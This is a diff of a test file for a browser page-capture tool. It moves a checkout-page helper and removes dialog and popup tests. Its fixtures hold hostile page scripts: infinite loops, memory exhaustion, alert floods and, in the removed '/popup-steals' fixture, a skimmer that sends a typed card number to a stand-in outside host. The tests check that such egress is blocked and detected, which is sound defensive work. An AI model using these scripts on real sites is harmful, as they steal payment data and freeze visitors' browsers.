@@ -5,13 +5,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { LIMITS } from '#collectors/limits.ts'
 import { type CaptureOptions, type RunningBrowser, takeCapture } from '#index.ts'
 import { mustLaunchIsolating } from '../session/browsers.ts'
-import { capture, page, type Site, serve, startBrowser } from './fixture.ts'
+import { capture, page, type Site, serve, shop, startBrowser } from './fixture.ts'
 
 let browser: RunningBrowser
 let site: Site
-
-const shop = (script: string) =>
-  page(`<h1>Checkout</h1><form action="/pay"><label>Card number <input autocomplete="cc-number"></label></form><script>${script}</script>`)
 
 /** Promises more than it sends. */
 const cutOff = (body: string) => (_incoming: IncomingMessage, outgoing: ServerResponse) => {
@@ -66,17 +63,8 @@ beforeAll(async () => {
     '/spins': page('<h1>Spin</h1><script>window.m_before_spin = 1</script><script>for (;;) {}</script>'),
     '/spins-later': shop('setTimeout(() => { for (;;) {} }, 8000)'),
     '/eats': page('<h1>Eat</h1><script>const kept = []; for (;;) kept.push(new Array(1e6).fill(Math.random()))</script>'),
-    '/dialogs': shop(
-      'alert("one"); confirm("two"); prompt("three"); onbeforeunload = (event) => { event.preventDefault(); return "stay" }; window.m_after_dialogs = 1',
-    ),
     '/evals': shop('for (let i = 0; i < 11000; i++) (0, eval)("window.a" + i + " = 1")'),
     '/alerts-forever': shop('for (;;) alert("again")'),
-    '/popup': shop('window.open("/popped")'),
-    '/popup-steals': shop(
-      'const card = document.querySelector("input"); card.onchange = () => { if (card.value.length > 12) open("http://other.localhost:PORT/stolen?c=" + card.value) }',
-    ),
-    '/popup-elsewhere': shop('window.open("http://other.localhost:PORT/popped")'),
-    '/popped': page('popped<script src="/in-the-popup.js"></script>'),
     '/goes': `${shop('setTimeout(() => { addEventListener("scroll", () => { location.href = "/elsewhere" }) }, 0)')}<div style="height:4000px"></div>`,
     '/elsewhere': page('<p>Elsewhere</p>'),
     '/captcha-frame': page(
@@ -273,43 +261,6 @@ describe('a page that can be read in part is partial, with a code and what there
 
   it('one that goes elsewhere while it is looked at: navigated-away', async () => {
     expect(await outcomeOf('/goes')).toMatchObject({ status: 'partial', code: 'navigated-away' })
-  })
-})
-
-describe('a page that opens things is partial, and everything else of it is there', () => {
-  it('answers dialogs, the one on leaving included, and says so', async () => {
-    const { bundle, ...outcome } = await outcomeOf('/dialogs')
-    expect(outcome).toMatchObject({ status: 'partial', code: 'dialog-held' })
-    expect(outcome.issues.map(({ detail }) => /\((\w+)\)|(leave)/.exec(detail)?.slice(1).join(''))).toEqual([
-      'alert',
-      'confirm',
-      'prompt',
-      'leave',
-    ])
-    expect([...bundle.bodies.values()].map((body) => Buffer.from(body).toString()).join()).toContain('m_after_dialogs')
-    expect(bundle.capture.canary?.typedInto).toMatchObject([{ verified: true }])
-  })
-
-  it.each([
-    ['its own site', '/popup', '/popped'],
-    ['another site', '/popup-elsewhere', 'other.localhost'],
-  ])('closes a window of %s, names its address, and loads nothing in it', async (_whose, path, address) => {
-    const before = site.arrived.length
-    const { bundle, ...outcome } = await outcomeOf(path)
-    expect(outcome).toMatchObject({ status: 'partial', code: 'popup-closed', issues: [{ code: 'popup-closed' }] })
-    expect(outcome.detail).toContain(address)
-    expect(bundle.capture.page.settled).toBe(true)
-    expect(site.arrived.slice(before).join()).not.toContain('/popped')
-    expect(bundle.capture.scripts.every((script) => bundle.capture.frames.some((frame) => frame.id === script.frameId))).toBe(true)
-  })
-
-  it('finds what was typed in the address of a window, which never loads', async () => {
-    const { bundle } = await outcomeOf('/popup-steals')
-    expect(site.arrived.join()).not.toContain('/stolen')
-    expect(bundle.capture.canary?.sightings).toMatchObject([
-      { value: 'card', host: expect.stringContaining('other.localhost'), where: 'url', blocked: true },
-    ])
-    expect(bundle.capture.requests.find((request) => request.url.includes('/stolen'))).toMatchObject({ failure: { by: 'egress' } })
   })
 })
 
